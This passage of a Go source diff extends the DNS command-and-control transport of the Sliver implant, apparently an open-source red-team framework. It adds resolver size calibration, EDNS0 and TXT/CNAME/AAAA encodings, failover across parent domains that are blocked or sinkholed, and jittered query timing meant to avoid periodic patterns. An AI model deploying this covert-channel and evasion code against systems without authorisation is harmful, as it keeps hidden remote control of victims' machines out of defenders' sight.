+	size := ednsBytesPerTxt(s.ednsSize, dnspb.TXTEncoding_BASE64) + dnsMsgOverhead - 4 // -4 for the checksum
+	probe, _ := proto.Marshal(&dnspb.DNSMessage{
+		Type: dnspb.DNSMessageType_NOP,
+		ID:   s.msgID(uint32(id)),
+		Size: uint32(size),
+		Data: padding(),
+	})
+	parent := s.nextParent()
+	domain, err := s.joinSubdataToParent(string(s.base32.Encode(probe)), parent.Domain)
+	if err != nil {
+		return false
+	}
+	data, _, err := s.lookup(resolver, parent, dns.TypeTXT, domain)
+	if err != nil || len(data) != 4+size || binary.LittleEndian.Uint32(data) != crc32.ChecksumIEEE(probe) {
+		// {{if .Config.Debug}}
+		log.Printf("[dns (%d)] edns0 probe failed (%d bytes): %v", id, len(data), err)
+		// {{end}}
+		return false
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns (%d)] edns0 enabled for %s", id, resolver.Address())
+	// {{end}}
+	return true
+}
+
+// calibrateQuery - Find the longest subdata the path through the resolver carries
+// intact, the query is as long as a full chunk under the longest parent. The full
+// length is probed first since it usually works, then the length is binary searched.
+// Returns zero if not even the shortest probe made it through.
+func (s *SliverDNSClient) calibrateQuery(id int, resolver DNSResolver) int {
+	s.parentMutex.Lock()
+	parent := s.longestParent()
+	s.parentMutex.Unlock()
+
+	// Search the number of padding bytes, the encoded length only depends on it
+	low, high := -1, s.subdataSpace*5/8+1
+	longest := 0
+	for size := high - 1; low+1 < high; size = (low + high) / 2 {
+		length, ok := s.queryProbe(id, resolver, parent, size)
+		if ok {
+			low = size
+			longest = length
+		} else {
+			high = size
+		}
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns (%d)] %s calibrated to %d subdata characters", id, resolver.Address(), longest)
+	// {{end}}
+	return longest
+}
+
+// queryProbe - Send a NOP padded with size bytes, returns the length of the encoded
+// subdata and if the server's checksum matched
+func (s *SliverDNSClient) queryProbe(id int, resolver DNSResolver, parent *parentDomain, size int) (int, bool) {
+	probe, _ := proto.Marshal(&dnspb.DNSMessage{
+		Type: dnspb.DNSMessageType_NOP,
+		ID:   s.msgID(uint32(id)),
+		Data: make([]byte, size),
+	})
+	subdata := string(s.base32.Encode(probe))
+	domain, err := s.joinSubdataToParent(subdata, parent.Domain)
+	if err != nil {
+		return len(subdata), false
+	}
+	for attempt := 0; attempt < calibrationAttempts; attempt++ {
+		data, _, err := s.lookup(resolver, parent, s.valueType, domain)
+		if err == nil && 4 <= len(data) && binary.LittleEndian.Uint32(data) == crc32.ChecksumIEEE(probe) {
+			return len(subdata), true
+		}
+	}
+	return len(subdata), false
+}
+
+// calibrateAnswer - Find the most TXT characters the path through the resolver
+// passes through intact, by asking the server to pad NOP answers. The largest
+// answer we'd use is probed first, then the size is binary searched. Returns zero
+// if TXT records aren't used for data or not even the smallest answer made it.
+func (s *SliverDNSClient) calibrateAnswer(id int, resolver DNSResolver, edns0 bool, encoding dnspb.TXTEncoding) int {
+	if s.dataType != dns.TypeTXT {
+		return 0
+	}
+	high := txtChars
+	if edns0 {
+		high = ednsTXTChars(s.ednsSize)
+	}
+	low, most := minCalibratedTXT-1, 0
+	parent := s.nextParent()
+	for chars := high; low < chars; chars = (low + high + 1) / 2 {
+		if s.answerProbe(id, resolver, parent, encoding, chars) {
+			low = chars
+			most = chars
+		} else {
+			high = chars - 1
+		}
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns (%d)] %s calibrated to %d txt characters", id, resolver.Address(), most)
+	// {{end}}
+	return most
+}
+
+// answerProbe - Ask for a NOP answer carrying as much data as a chunk that fits in
+// this many TXT characters, and check it arrived intact
+func (s *SliverDNSClient) answerProbe(id int, resolver DNSResolver, parent *parentDomain, encoding dnspb.TXTEncoding, chars int) bool {
+	size := txtCapacity(chars, encoding) - 4 // -4 for the checksum
+	if size < 0 {
+		return false
+	}
+	probe, _ := proto.Marshal(&dnspb.DNSMessage{
+		Type:     dnspb.DNSMessageType_NOP,
+		ID:       s.msgID(uint32(id)),
+		Size:     uint32(size),
+		Encoding: encoding,
+		Data:     padding(),
+	})
+	domain, err := s.joinSubdataToParent(string(s.base32.Encode(probe)), parent.Domain)
+	if err != nil {
+		return false
+	}
+	expected := make([]byte, 4, 4+size)
+	binary.LittleEndian.PutUint32(expected, crc32.ChecksumIEEE(probe))
+	for index := 0; index < size; index++ {
+		expected = append(expected, byte(index))
+	}
+	for attempt := 0; attempt < calibrationAttempts; attempt++ {
+		s.limiter.wait()
+		data, rtt, err := lookup(resolver, parent.Domain, dns.TypeTXT, domain, encoding)
+		recordOutcome(parent.Metadata, rtt, err)
+		if err == nil && bytes.Equal(data, expected) {
+			return true
+		}
+		if err == ErrTruncated {
+			break // Retrying won't help
+		}
+	}
+	return false
+}
+
+// recalibrate - Calibrate the resolvers in use again, so sizes that were shrunk
+// after truncated answers can grow back when the path allows it
+func (s *SliverDNSClient) recalibrate() {
+	s.resolversMutex.RLock()
+	resolvers := make([]DNSResolver, len(s.resolvers))
+	copy(resolvers, s.resolvers)
+	s.resolversMutex.RUnlock()
+	for id, resolver := range resolvers {
+		s.resolversMutex.RLock()
+		meta, ok := s.metadata[resolver.Address()]
+		s.resolversMutex.RUnlock()
+		if !ok {
+			continue
+		}
+		meta.mutex.Lock()
+		edns0, encoding := meta.EnableEDNS0, meta.TXTEncoding
+		meta.mutex.Unlock()
+		querySize := s.calibrateQuery(id, resolver)
+		answerSize := s.calibrateAnswer(id, resolver, edns0, encoding)
+		meta.mutex.Lock()
+		meta.MaxQuerySize, meta.MaxAnswerSize = querySize, answerSize
+		meta.mutex.Unlock()
+	}
+}
+
+// shrinkAnswers - An answer through the resolver was truncated, so the calibrated
+// size was too optimistic for the path. Returns false if the resolver was not
+// calibrated.
+func shrinkAnswers(meta *ResolverMetadata) bool {
+	if meta == nil {
+		return false
+	}
+	meta.mutex.Lock()
+	defer meta.mutex.Unlock()
+	if meta.MaxAnswerSize == 0 {
+		return false
+	}
+	meta.MaxAnswerSize -= meta.MaxAnswerSize / calibrationBackoff
+	if meta.MaxAnswerSize < minCalibratedTXT {
+		meta.MaxAnswerSize = minCalibratedTXT
+	}
+	return true
+}
+
+// answerSpace - The fewest TXT characters any resolver we may schedule work on was
+// calibrated to, zero if any of them were not calibrated
+func (s *SliverDNSClient) answerSpace() int {
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
+	space := 0
+	for _, worker := range s.workerPool {
+		if worker.Metadata == nil {
+			return 0
+		}
+		worker.Metadata.mutex.Lock()
+		calibrated := worker.Metadata.MaxAnswerSize
+		worker.Metadata.mutex.Unlock()
+		if calibrated == 0 {
+			return 0
+		}
+		if space == 0 || calibrated < space {
+			space = calibrated
+		}
+	}
+	return space
+}
+
+// edns0Enabled - Larger recv chunks can be used if every resolver we may schedule
+// work on passed the EDNS0 probe
+func (s *SliverDNSClient) edns0Enabled() bool {
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
+	if s.ednsDisabled || len(s.workerPool) < 1 {
+		return false
+	}
+	for _, worker := range s.workerPool {
+		if worker.Metadata == nil || !worker.Metadata.EnableEDNS0 {
+			return false
+		}
+	}
+	return true
+}
+
+// txtEncoding - The most efficient TXT encoding every resolver we may schedule
+// work on passed the probe for
+func (s *SliverDNSClient) txtEncoding() dnspb.TXTEncoding {
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
+	if len(s.workerPool) < 1 || s.chunkSize == 0 {
+		return dnspb.TXTEncoding_BASE64
+	}
+	encoding := s.negotiatedEncoding
+	if s.maxTXTEncoding < encoding {
+		encoding = s.maxTXTEncoding
+	}
+	for _, worker := range s.workerPool {
+		if worker.Metadata == nil {
+			return dnspb.TXTEncoding_BASE64
+		}
+		if worker.Metadata.TXTEncoding < encoding {
+			encoding = worker.Metadata.TXTEncoding
+		}
+	}
+	return encoding
+}
+
+func (s *SliverDNSClient) disableEDNS0() {
+	s.resolversMutex.Lock()
+	defer s.resolversMutex.Unlock()
+	s.ednsDisabled = true
+}
+
+// resolverHealthCheck - Periodically re-fingerprint dropped resolvers until the session is closed
+func (s *SliverDNSClient) resolverHealthCheck(ctrl <-chan struct{}) {
+	ticker := time.NewTicker(s.healthCheckInterval)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-ctrl:
+			return
+		case <-ticker.C:
+			s.checkDroppedResolvers()
+			if s.calibrate {
+				s.recalibrate()
+			}
+		}
+	}
+}
+
+// checkDroppedResolvers - Re-fingerprint dropped resolvers and re-admit the ones that
+// are healthy again, a re-admitted resolver gets its own set of workers
+func (s *SliverDNSClient) checkDroppedResolvers() {
+	s.resolversMutex.RLock()
+	dropped := make([]DNSResolver, len(s.droppedResolvers))
+	copy(dropped, s.droppedResolvers)
+	s.resolversMutex.RUnlock()
+	if len(dropped) < 1 {
+		return
+	}
+
+	// {{if .Config.Debug}}
+	log.Printf("[dns] Re-checking %d dropped resolver(s) ...", len(dropped))
+	// {{end}}
+	for _, resolver := range dropped {
+		s.resolversMutex.RLock()
+		id := len(s.resolvers)
+		s.resolversMutex.RUnlock()
+
+		meta := s.fingerprint(id, resolver)
+		if s.resolverMaxErrors < meta.Errors {
+			// {{if .Config.Debug}}
+			log.Printf("[dns] resolver %s is still unhealthy (errors %d)", resolver.Address(), meta.Errors)
+			// {{end}}
+			continue
+		}
+		// If we've already switched to a case sensitive encoder, we can only use
+		// resolvers that don't corrupt it
+		if s.enableCaseSensitiveEncoder && !meta.EnableBase58 {
+			// {{if .Config.Debug}}
+			log.Printf("[dns] resolver %s does not support base58, cannot re-admit", resolver.Address())
+			// {{end}}
+			continue
+		}
+		s.readmitResolver(resolver, meta)
+	}
+}
+
+func (s *SliverDNSClient) readmitResolver(resolver DNSResolver, meta *ResolverMetadata) {
+	s.resolversMutex.Lock()
+	defer s.resolversMutex.Unlock()
+	// {{if .Config.Debug}}
+	log.Printf("[dns] re-admitting resolver %s (avg rtt %s, errors %d)",
+		resolver.Address(), s.averageRtt(meta), meta.Errors)
+	// {{end}}
+	for index, dropped := range s.droppedResolvers {
+		if dropped.Address() == resolver.Address() {
+			s.droppedResolvers = append(s.droppedResolvers[:index], s.droppedResolvers[index+1:]...)
+			break
+		}
+	}
+	s.metadata[resolver.Address()] = meta
+	id := len(s.resolvers)
+	s.resolvers = append(s.resolvers, resolver)
+	if !s.closed {
+		for i := 0; i < s.WorkersPerResolver; i++ {
+			s.startWorker(id, resolver)
 		}
 	}
-	results <- meta
 }
 
 func (s *SliverDNSClient) benchmark(id int, encoder encoders.Encoder, resolver DNSResolver, meta *ResolverMetadata) {
@@ -912,7 +2384,8 @@ func (s *SliverDNSClient) benchmark(id int, encoder encoders.Encoder, resolver D
 			// {{end}}
 			continue
 		}
-		domain, err := s.joinSubdataToParent(string(encoder.Encode(finger)))
+		parent := s.nextParent()
+		domain, err := s.joinSubdataToParent(string(encoder.Encode(finger)), parent.Domain)
 		if err != nil {
 			meta.Errors++
 			// {{if .Config.Debug}}
@@ -920,7 +2393,8 @@ func (s *SliverDNSClient) benchmark(id int, encoder encoders.Encoder, resolver D
 			// {{end}}
 			continue
 		}
-		data, rtt, err := resolver.A(domain)
+		meta.Queries++
+		data, rtt, err := s.lookup(resolver, parent, s.valueType, domain)
 		if err != nil || len(data) < 1 {
 			meta.Errors++
 			// {{if .Config.Debug}}
@@ -929,8 +2403,12 @@ func (s *SliverDNSClient) benchmark(id int, encoder encoders.Encoder, resolver D
 			continue
 		}
 
-		if fingerChecksum != binary.LittleEndian.Uint32(data) {
+		if len(data) < 4 || fingerChecksum != binary.LittleEndian.Uint32(data) {
 			meta.Errors++
+			meta.Mismatches++
+			if meta.Mismatch == nil {
+				meta.Mismatch = data
+			}
 			// {{if .Config.Debug}}
 			log.Printf("[dns (%d)] error checksum mismatch expected: %d, got: %d",
 				id, fingerChecksum, binary.LittleEndian.Uint32(data))
@@ -941,13 +2419,92 @@ func (s *SliverDNSClient) benchmark(id int, encoder encoders.Encoder, resolver D
 	}
 }
 
+// diagnoseTXT - Check if the path through the resolver filters or rewrites TXT
+// answers, even when the session itself uses another record type
+func (s *SliverDNSClient) diagnoseTXT(id int, resolver DNSResolver, meta *ResolverMetadata) {
+	for index := 0; index < metricsMaxSize/2; index++ {
+		finger, fingerChecksum, err := s.fingerprintMsg(id)
+		if err != nil {
+			continue
+		}
+		parent := s.nextParent()
+		domain, err := s.joinSubdataToParent(string(s.base32.Encode(finger)), parent.Domain)
+		if err != nil {
+			continue
+		}
+		meta.TXTQueries++
+		data, _, err := s.lookup(resolver, parent, dns.TypeTXT, domain)
+		if err != nil || len(data) < 1 {
+			meta.TXTErrors++
+			continue
+		}
+		if len(data) < 4 || fingerChecksum != binary.LittleEndian.Uint32(data) {
+			// {{if .Config.Debug}}
+			log.Printf("[dns (%d)] %s rewrote txt answer %x", id, resolver.Address(), data)
+			// {{end}}
+			meta.TXTMismatches++
+			if meta.TXTMismatch == nil {
+				meta.TXTMismatch = data
+			}
+		}
+	}
+}
+
+// Diagnostics - Per resolver report of what was filtered or rewritten while
+// fingerprinting, nil unless the client is in diagnostic mode
+func (s *SliverDNSClient) Diagnostics() *pb.DNSDiagnostics {
+	if !s.diagnostics {
+		return nil
+	}
+	s.parentMutex.Lock()
+	diagnostics := &pb.DNSDiagnostics{
+		Parent:    s.parent,
+		Timestamp: time.Now().Unix(),
+	}
+	s.parentMutex.Unlock()
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
+	report := func(resolver DNSResolver, dropped bool) {
+		meta, ok := s.metadata[resolver.Address()]
+		if !ok {
+			return
+		}
+		meta.mutex.Lock()
+		querySize, answerSize := meta.MaxQuerySize, meta.MaxAnswerSize
+		meta.mutex.Unlock()
+		diagnostics.Resolvers = append(diagnostics.Resolvers, &pb.DNSResolverReport{
+			Address:       meta.Address,
+			Dropped:       dropped,
+			Queries:       uint32(meta.Queries),
+			Errors:        uint32(meta.Errors - meta.Mismatches),
+			Mismatches:    uint32(meta.Mismatches),
+			Mismatch:      meta.Mismatch,
+			TXTQueries:    uint32(meta.TXTQueries),
+			TXTErrors:     uint32(meta.TXTErrors),
+			TXTMismatches: uint32(meta.TXTMismatches),
+			TXTMismatch:   meta.TXTMismatch,
+			Base58:        meta.EnableBase58,
+			EDNS0:         meta.EnableEDNS0,
+			TXTEncoding:   meta.TXTEncoding.String(),
+			AvgRtt:        s.averageRtt(meta).Milliseconds(),
+			MaxQuerySize:  uint32(querySize),
+			MaxAnswerSize: uint32(answerSize),
+		})
+	}
+	for _, resolver := range s.resolvers {
+		report(resolver, false)
+	}
+	for _, resolver := range s.droppedResolvers {
+		report(resolver, true)
+	}
+	return diagnostics
+}
+
 func (s *SliverDNSClient) fingerprintMsg(id int) ([]byte, uint32, error) {
-	data := make([]byte, 8)
-	rand.Read(data)
 	fingerprintMsg := &dnspb.DNSMessage{
 		Type: dnspb.DNSMessageType_NOP,
 		ID:   s.msgID(uint32(id)), // Take advantage of the variable length encoding
-		Data: data,
+		Data: padding(),
 	}
 	msg, err := proto.Marshal(fingerprintMsg)
 	return msg, crc32.ChecksumIEEE(msg), err
@@ -959,15 +2516,21 @@ func (s *SliverDNSClient) msgID(id uint32) uint32 {
 }
 
 func (s *SliverDNSClient) nextMsgID() uint32 {
-	s.msgCount++
-	return s.msgID(s.msgCount % 255)
+	// Progress reports are sent while another message is in flight
+	return s.msgID(atomic.AddUint32(&s.msgCount, 1) % 255)
 }
 
 // WARNING: The metrics map is not mutex'd so you cannot modify it in this
 // method since it'll be executed in a goroutine. The map should already be
 // setup for us so any key error here should panic
 func (s *SliverDNSClient) recordMetrics(meta *ResolverMetadata, rtt time.Duration) {
-	// Prepend metrics slice, drop oldest if we have more than metricsMaxSize
+	meta.mutex.Lock()
+	defer meta.mutex.Unlock()
+	appendMetric(meta, rtt)
+}
+
+// appendMetric - Prepend metrics slice, drop oldest if we have more than metricsMaxSize
+func appendMetric(meta *ResolverMetadata, rtt time.Duration) {
 	if len(meta.Metrics) < metricsMaxSize {
 		meta.Metrics = append([]time.Duration{rtt}, meta.Metrics...)
 	} else {
@@ -975,7 +2538,52 @@ func (s *SliverDNSClient) recordMetrics(meta *ResolverMetadata, rtt time.Duratio
 	}
 }
 
+// recordOutcome - Record the result of a worker's query, the rtt of failed
+// queries is not included in the metrics
+func recordOutcome(meta *ResolverMetadata, rtt time.Duration, err error) {
+	if meta == nil {
+		return
+	}
+	meta.mutex.Lock()
+	defer meta.mutex.Unlock()
+	if err == nil {
+		appendMetric(meta, rtt)
+	}
+	outcome := resolverOutcome{at: time.Now(), failed: err != nil}
+	if len(meta.outcomes) < metricsMaxSize {
+		meta.outcomes = append([]resolverOutcome{outcome}, meta.outcomes...)
+	} else {
+		meta.outcomes = append([]resolverOutcome{outcome}, meta.outcomes[:metricsMaxSize-1]...)
+	}
+}
+
+// errorRate - Fraction of the resolver's recent queries that failed, outcomes older
+// than errorRateWindow are ignored so a skipped resolver is eventually retried
+func errorRate(meta *ResolverMetadata, now time.Time) float64 {
+	if meta == nil {
+		return 0
+	}
+	meta.mutex.Lock()
+	defer meta.mutex.Unlock()
+	count, failed := 0, 0
+	for _, outcome := range meta.outcomes {
+		if errorRateWindow < now.Sub(outcome.at) {
+			break
+		}
+		count++
+		if outcome.failed {
+			failed++
+		}
+	}
+	if count < 1 {
+		return 0
+	}
+	return float64(failed) / float64(count)
+}
+
 func (s *SliverDNSClient) averageRtt(meta *ResolverMetadata) time.Duration {
+	meta.mutex.Lock()
+	defer meta.mutex.Unlock()
 	if len(meta.Metrics) < 1 {
 		return time.Duration(0)
 	}
@@ -987,8 +2595,254 @@ func (s *SliverDNSClient) averageRtt(meta *ResolverMetadata) time.Duration {
 }
 
 func (s *SliverDNSClient) randomResolver() (DNSResolver, *ResolverMetadata) {
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
 	resolver := s.resolvers[insecureRand.Intn(len(s.resolvers))]
 	return resolver, s.metadata[resolver.Address()]
 }
 
 // {{end}} -DNSc2Enabled
+
+// bytesPerRecv - Bytes of message data to request per query, at most the chunk size
+// negotiated with the server
+func (s *SliverDNSClient) bytesPerRecv() uint32 {
+	size := s.bytesPerResponse()
+	if 0 < s.chunkSize && s.chunkSize < size {
+		return s.chunkSize
+	}
+	return size
+}
+
+// bytesPerResponse - Data that fits in a response given the record type, encoding,
+// and whether EDNS0 is enabled, a CNAME response is limited by the max length of a
+// domain name
+func (s *SliverDNSClient) bytesPerResponse() uint32 {
+	if s.dataType == dns.TypeTXT {
+		size := s.bytesPerTxt()
+		if chars := s.answerSpace(); 0 < chars {
+			if calibrated := txtCapacity(chars, s.txtEncoding()) - dnsMsgOverhead - 1; calibrated < size {
+				size = calibrated
+			}
+		}
+		return uint32(size)
+	}
+	if s.dataType != dns.TypeCNAME {
+		return bytesPerTxt // AAAA responses fit the same amount of data
+	}
+	s.parentMutex.Lock()
+	space := 254 - len(s.longestParent().Domain)
+	s.parentMutex.Unlock()
+	size := (space-space/64)*5/8 - 10 // base32 labels, -9 metadata, -1 margin
+	if size < 1 {
+		size = 1
+	}
+	return uint32(size)
+}
+
+// bytesPerTxt - Data that fits in a TXT response before calibration, the most the
+// record and EDNS0 payload size allow
+func (s *SliverDNSClient) bytesPerTxt() int {
+	if s.edns0Enabled() {
+		return ednsBytesPerTxt(s.ednsSize, s.txtEncoding())
+	}
+	if encoding := s.txtEncoding(); encoding != dnspb.TXTEncoding_BASE64 {
+		return txtCapacity(txtChars, encoding) - dnsMsgOverhead - 1
+	}
+	return bytesPerTxt
+}
+
+// ednsBytesPerTxt - Data that fits in a TXT response of ednsSize bytes, then base64
+// and the metadata
+func ednsBytesPerTxt(ednsSize uint16, encoding dnspb.TXTEncoding) int {
+	size := txtCapacity(ednsTXTChars(ednsSize), encoding) - dnsMsgOverhead - 1
+	if size < bytesPerTxt {
+		return bytesPerTxt
+	}
+	return size
+}
+
+// ednsTXTChars - TXT characters that fit in a response of ednsSize bytes, assuming
+// the worst case question length: -12 header, -259 question, -12 answer header, -11
+// OPT record, each 254 byte string has a length byte
+func ednsTXTChars(ednsSize uint16) int {
+	rdata := int(ednsSize) - 12 - 259 - 12 - 11
+	return rdata - rdata/255
+}
+
+// txtCapacity - Bytes of data that fit in this many TXT characters
+func txtCapacity(chars int, encoding dnspb.TXTEncoding) int {
+	switch encoding {
+	case dnspb.TXTEncoding_BASE85:
+		return chars * 4 / 5
+	case dnspb.TXTEncoding_RAW:
+		return chars
+	}
+	return chars * 3 / 4
+}
+
+// recordTypes - Record types used for queries that expect a 4 byte value and
+// queries that expect data
+func recordTypes(recordType string) (uint16, uint16) {
+	switch recordType {
+	case "aaaa":
+		return dns.TypeAAAA, dns.TypeAAAA
+	case "cname":
+		return dns.TypeCNAME, dns.TypeCNAME
+	case "txt":
+		return dns.TypeTXT, dns.TypeTXT
+	default:
+		return dns.TypeA, dns.TypeTXT
+	}
+}
+
+// sessionIDTypes - Record types to try when fetching a dns session id, resolvers on
+// IPv6-only networks may not pass A queries through so we fall back to AAAA
+func sessionIDTypes(valueType uint16) []uint16 {
+	if valueType == dns.TypeA {
+		return []uint16{dns.TypeA, dns.TypeAAAA}
+	}
+	return []uint16{valueType}
+}
+
+// lookup - Rate limited lookup of a domain under one of the client's parents, the
+// outcome counts toward the parent's error rate
+func (s *SliverDNSClient) lookup(resolver DNSResolver, parent *parentDomain, qType uint16, domain string) ([]byte, time.Duration, error) {
+	s.limiter.wait()
+	data, rtt, err := lookup(resolver, parent.Domain, qType, domain, dnspb.TXTEncoding_BASE64)
+	recordOutcome(parent.Metadata, rtt, err)
+	return data, rtt, err
+}
+
+// parentDomain - A parent domain, failures are tracked the same way as they are for
+// resolvers so we can fail over when a parent is blocked or sinkholed
+type parentDomain struct {
+	Domain   string
+	Weight   int
+	Metadata *ResolverMetadata
+}
+
+func newParentDomain(domain string, weight int) *parentDomain {
+	domain = normalizeParent(domain)
+	if weight < 1 {
+		weight = 1
+	}
+	return &parentDomain{
+		Domain:   domain,
+		Weight:   weight,
+		Metadata: &ResolverMetadata{Address: domain},
+	}
+}
+
+// weightedParent - Pick a parent at random in proportion to its weight
+func weightedParent(parents []*parentDomain) *parentDomain {
+	total := 0
+	for _, parent := range parents {
+		total += parent.Weight
+	}
+	pick := insecureRand.Intn(total)
+	for _, parent := range parents {
+		pick -= parent.Weight
+		if pick < 0 {
+			return parent
+		}
+	}
+	return parents[len(parents)-1]
+}
+
+// queryLimiter - Spaces queries out so that bursts of work, like a download, don't
+// turn into bursts of queries. The space between queries is randomized so queries
+// are not perfectly periodic either.
+type queryLimiter struct {
+	interval time.Duration
+	next     time.Time
+	mutex    sync.Mutex
+}
+
+func newQueryLimiter(maxPerMinute int) *queryLimiter {
+	if maxPerMinute < 1 {
+		return nil
+	}
+	return &queryLimiter{interval: time.Minute / time.Duration(maxPerMinute)}
+}
+
+// reserve - Reserve the next query slot and return how long to wait for it, slots
+// are 1-1.5x the interval apart so there are never more than maxPerMinute queries
+// in a minute
+func (l *queryLimiter) reserve(now time.Time) time.Duration {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	if l.next.Before(now) {
+		l.next = now
+	}
+	wait := l.next.Sub(now)
+	l.next = l.next.Add(l.interval + time.Duration(insecureRand.Int63n(int64(l.interval/2)+1)))
+	return wait
+}
+
+// wait - Block until the next query slot, a nil limiter never blocks
+func (l *queryLimiter) wait() {
+	if l == nil {
+		return
+	}
+	if wait := l.reserve(time.Now()); 0 < wait {
+		time.Sleep(wait)
+	}
+}
+
+// lookup - Query a resolver using the given record type and decode the response, the
+// encoding only applies to TXT responses
+func lookup(resolver DNSResolver, parent string, qType uint16, domain string, encoding dnspb.TXTEncoding) ([]byte, time.Duration, error) {
+	switch qType {
+	case dns.TypeA:
+		return resolver.A(domain)
+	case dns.TypeAAAA:
+		return resolver.AAAA(domain)
+	case dns.TypeCNAME:
+		target, rtt, err := resolver.CNAME(domain)
+		if err != nil {
+			return nil, rtt, err
+		}
+		data, err := decodeCNAME(parent, target)
+		return data, rtt, err
+	default:
+		txt, rtt, err := resolver.TXT(domain)
+		if err != nil {
+			return nil, rtt, err
+		}
+		data, err := decodeTXT(encoding, txt)
+		return data, rtt, err
+	}
+}
+
+// decodeTXT - Decode the concatenated character strings of a TXT response
+func decodeTXT(encoding dnspb.TXTEncoding, txt []byte) ([]byte, error) {
+	if len(txt) < 1 {
+		return []byte{}, nil
+	}
+	switch encoding {
+	case dnspb.TXTEncoding_BASE85:
+		data := make([]byte, len(txt))
+		n, _, err := ascii85.Decode(data, txt, true)
+		if err != nil {
+			return nil, err
+		}
+		return data[:n], nil
+	case dnspb.TXTEncoding_RAW:
+		return txt, nil
+	}
+	return encoders.Base64{}.Decode(txt)
+}
+
+// decodeCNAME - The data is encoded as base32 labels under the parent domain
+func decodeCNAME(parent string, target string) ([]byte, error) {
+	target = strings.ToLower(dns.Fqdn(target))
+	parent = strings.ToLower(parent)
+	if target == strings.TrimPrefix(parent, ".") {
+		return []byte{}, nil
+	}
+	if !strings.HasSuffix(target, parent) {
+		return nil, ErrInvalidResponse
+	}
+	subdata := strings.ReplaceAll(strings.TrimSuffix(target, parent), ".", "")
+	return encoders.Base32{}.Decode([]byte(subdata))
+}